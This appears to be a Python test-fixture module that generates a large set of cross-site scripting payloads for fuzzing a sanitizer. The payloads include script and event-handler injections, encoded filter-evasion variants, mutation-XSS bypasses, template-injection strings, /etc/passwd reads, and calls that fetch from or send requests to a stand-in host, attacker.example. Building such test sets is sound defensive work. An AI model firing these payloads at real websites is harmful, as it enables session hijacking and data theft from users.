"""Strings that try to run a script in a page, or to make it ask another origin for something: written by a small
grammar, the same ones each time. XSS_STRINGS names a file of others (JSON lines, each with a `text`)."""

import base64
import json
import os
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from urllib.parse import quote

NAMED = os.environ.get("XSS_STRINGS", "")
"""Read when the module is: while a test runs it is not in the environment."""
HOST = "attacker.example"
CALLS = (
    "alert(1)",
    "confirm`1`",
    "top['ale'+'rt'](1)",
    "eval('prompt(1)')",
    "Function('alert(1)')()",
    "setTimeout('alert(1)')",
    f"fetch('//{HOST}/f')",
    f"import('//{HOST}/m.js')",
    f"open('//{HOST}/w')",
    f"location='//{HOST}/l'",
    f"new Image().src='//{HOST}/i'",
    f"document.write('<script src=//{HOST}/w.js></script>')",
)
TAGS = (
    "<script>{call}</script>",
    f"<script src=//{HOST}/s.js></script>",
    "<script type=module>{call}//",
    "<img src=x onerror={call}>",
    f"<img src=//{HOST}/pixel.png>",
    f'<img srcset="//{HOST}/a 1x, //{HOST}/b 2x">',
    f"<picture><source srcset=//{HOST}/p><img></picture>",
    "<image src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{call}><a><text>a</text></a></svg>",
    f"<svg><use href=//{HOST}/u.svg#a></svg>",
    f"<svg><image href=//{HOST}/i.svg></svg>",
    "<svg><foreignObject><iframe onload={call}></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:{call}>a</maction></math>",
    "<math href=javascript:{call}>a</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={call}&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={call} src>'>",
    "<svg></p><style><a id='</style><img src=1 onerror={call}>'>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template><script>{call}</script></template>",
    "<iframe src=javascript:{call}></iframe>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    f"<iframe src=//{HOST}/frame></iframe>",
    "<object data=javascript:{call}></object>",
    f"<object data=//{HOST}/o></object>",
    f"<embed src=//{HOST}/e.swf>",
    "<body onload={call}>",
    "<details open ontoggle={call}>a",
    "<video><source onerror={call}></video>",
    f"<video poster=//{HOST}/v.png src=//{HOST}/v.mp4 autoplay></video>",
    f"<audio src=//{HOST}/a.mp3 onerror={{call}} autoplay>",
    "<input autofocus onfocus={call}>",
    f"<input type=image src=//{HOST}/b.png formaction=javascript:{{call}}>",
    "<select autofocus onfocus={call}>",
    "<marquee onstart={call}>a</marquee>",
    f"<style>@import '//{HOST}/a.css';</style>",
    "<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={call}>a</b>",
    f"<b style='background:url(//{HOST}/b)'>a</b>",
    f"<link rel=stylesheet href=//{HOST}/l.css>",
    f"<link rel=prefetch href=//{HOST}/p>",
    f"<base href=//{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/r'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *"><script>{call}</script>',
    "<form action=javascript:{call}><button>a</button></form>",
    f"<form action=//{HOST}/f><input name=q><button autofocus>a</button></form>",
    f"<table background=//{HOST}/t><td>a",
    "<a href=javascript:{call} autofocus tabindex=1>a</a>",
    f"<a href=/ ping=//{HOST}/ping>a</a>",
    "<frameset onload={call}>",
    "<dialog open onclose={call}><form method=dialog><button>a</button></form></dialog>",
    "<button popovertarget=x onclick={call}>a</button><b popover id=x onbeforetoggle={call}>b</b>",
    "<xss contenteditable oninput={call} onfocusin={call} autofocus>a</xss>",
    "<?xml-stylesheet href=javascript:{call}?>",
    "<![CDATA[><img src=x onerror={call}>]]>",
)
EVENTS = (
    "click", "dblclick", "focus", "focusin", "blur", "mouseover", "pointerenter", "pointerrawupdate", "wheel",
    "keydown", "copy", "drop", "toggle", "scroll", "scrollend", "animationstart", "transitionend", "load", "error",
    "beforeinput", "contextmenu", "beforematch", "securitypolicyviolation",
)  # fmt: skip
ELEMENTS = ("a", "p", "td", "strong", "code", "h2", "li", "svg", "custom-one")
FORMS = (
    "<{name} on{event}={call}>a</{name}>",
    '<{name} on{event}="{call}">a</{name}>',
    "<{name}/on{event}='{call}'/>a",
    "<{name}\ton{event}\n=\n{call}\n>a",
    "<{name} x='>' on{event}=`{call}`>a",
    '" on{event}="{call}" autofocus tabindex="1" x="',
    "' on{event}='{call}' x='",
)
SCHEMES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    "java&#10;script:{call}",
    "&#106;avascript:{call}",
    "&#x6A;&#x61;vascript&colon;{call}",
    "javascript&#58;{call}",
    "javascript%3A{call}",
    "%6Aavascript:{call}",
    "\x01javascript:{call}",
    "\u00a0javascript:{call}",
    "java\\script:{call}",
    "javascript://corvane.example/%0A{call}",
    "feed:javascript:{call}",
    "view-source:javascript:{call}",
    "vbscript:MsgBox(1)",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,{base64}",
    "data:image/svg+xml,<svg/onload={call}>",
    "blob:https://attacker.example/1",
    "file:///etc/passwd",
    "intent://attacker.example#Intent;scheme=https;end",
    "https:javascript:{call}",
    "https://corvane.example\\@attacker.example/",
    "https://corvane.example/\"onmouseover='{call}'",
    "/help/../..//attacker.example/x",
    "mailto:a@b.example?body=<script>{call}</script>",
)
LINKS = (
    "[a]({url})",
    "[a](<{url}>)",
    '[a]({url} "t\\" onclick={call}")',
    "![a]({url})",
    "[![a]({url})]({url})",
    "<{url}>",
    "[a]: {url}\n\n[a] [a][] ![a]",
    "[1]({url})",
    '<a href="{url}">a</a>',
    "{url}",
    "| [a]({url}) | <{url}> |\n| --- | --- |\n| ![a]({url}) | b |",
)
TEMPLATES = (
    "{{{{constructor.constructor('{call}')()}}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{% include '/etc/passwd' %}}",
    "${{{call}}}",
    "#{{{call}}}",
    "<%= {call} %>",
    "<div ng-app ng-csp><b ng-focus=$event.view.{call}>a",
    "<b v-html=\"'<img src=x onerror={call}>'\">a</b>",
    "<b x-init={call} hx-on:load={call} hx-get=//attacker.example/h hx-trigger=load>a</b>",
    "__proto__[innerHTML]=<img src=x onerror={call}>",
    "expression({call}) url(javascript:{call}) behavior:url(//attacker.example/b.htc)",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "#:~:text=<script>{call}</script>,-</script>",
    "https://corvane.example/help/a#:~:text=%3Cimg%20src%3Dx%20onerror%3D{call}%3E",
    "%253Cscript%253E{call}%253C/script%253E",
)
AROUND = (
    "{attack}",
    '"><{attack}',
    "'></a>{attack}",
    "</title></textarea></style></script>{attack}",
    "--></noscript></template>{attack}",
    "<!--[if gte IE 4]>{attack}<![endif]-->",
    "<!-->{attack}-->",
    "]]>{attack}",
    "`</code>{attack}`",
    "```\n</code></pre>{attack}\n```",
    "~~~~html\n```\n{attack}\n```\n{attack}\n~~~~",
    "```{attack}\na",
    "    {attack}",
    "> **Warning:** {attack}",
    "1. a\n   - {attack}",
    "# {attack}",
    "**{attack}** *{attack}*",
    "[{attack}](https://www.corvane.example/)",
    "[a](https://www.corvane.example/ '{attack}')",
    "| {attack} | b |\n| --- | --- |\n| a | {attack} |",
    "\\{attack}",
    "a\n\n{attack}\n\n[2] [1]({attack})",
    "\u202e{attack}\u202c\u2066b\u2069",
)


def _entities(text: str) -> str:
    return "".join(f"&#{ord(each)};" for each in text)


def _nul(text: str) -> str:
    return text.replace("<", "<\0", 1).replace("script", "scr\0ipt").replace(" on", "\0on")


ENCODINGS: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    str.swapcase,
    _entities,
    lambda text: "".join(f"&#x{ord(each):07x}" for each in text),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    quote,
    lambda text: quote(quote(text)),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "\ufeff<\u200b", 1),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\f\n"),
    lambda text: text.replace("<script", "<scr<script>ipt").replace("</script", "</scr</script>ipt"),
    lambda text: text.replace("<", "<<", 1).replace(">", "", 1),
    lambda text: text.replace("'", "\ud83d'").replace("<", "\udc00<", 1),
    lambda text: text.replace("<", "\xc0\xbc<", 1).replace(" ", "\xa0"),
    _nul,
    lambda text: "x" * 3000 + text,
    lambda text: text * 12,
    lambda text: "[" * 200 + text + "]" * 200,
    lambda text: "> " * 40 + text,
)
TURNS = 9
"""How often each tag is put into other surroundings, in another encoding."""


def _all() -> Iterator[str]:
    number = 0
    for turn in range(TURNS):
        for place, tag in enumerate(TAGS):
            number += 1
            attack = tag.format(call=CALLS[number % len(CALLS)])
            encode = ENCODINGS[(place * 5 + turn * 4) % len(ENCODINGS)] if turn else str
            around = AROUND[(place * 7 + turn * 3) % len(AROUND)] if turn else "{attack}"
            yield around.replace("{attack}", encode(attack))
    for event in EVENTS:
        for place, form in enumerate(FORMS):
            number += 1
            name = ELEMENTS[(number + place) % len(ELEMENTS)]
            yield form.format(name=name, event=event, call=CALLS[number % len(CALLS)])
    for scheme in SCHEMES:
        for link in LINKS:
            number += 1
            call = CALLS[number % len(CALLS)]
            coded = base64.b64encode(f"<script>{call}</script>".encode()).decode()
            yield link.format(url=scheme.format(call=call, base64=coded), call=call)
    for template in TEMPLATES:
        yield from (template.format(call=call) for call in CALLS[::3])


@cache
def generated() -> tuple[str, ...]:
    """Every string of the grammar, each once."""
    return tuple(dict.fromkeys(_all()))


def some(count: int) -> tuple[str, ...]:
    """So many of the grammar's, evenly out of all of it."""
    every = generated()
    return tuple(every[place * len(every) // count] for place in range(count))


def given(path: str = NAMED) -> tuple[str, ...]:
    """The strings of a file, each once; none when no file is named."""
    if not path:
        return ()
    lines = Path(path).read_text(encoding="utf-8").splitlines()
    return tuple(dict.fromkeys(text for line in lines if line.strip() for text in (json.loads(line)["text"],) if text))
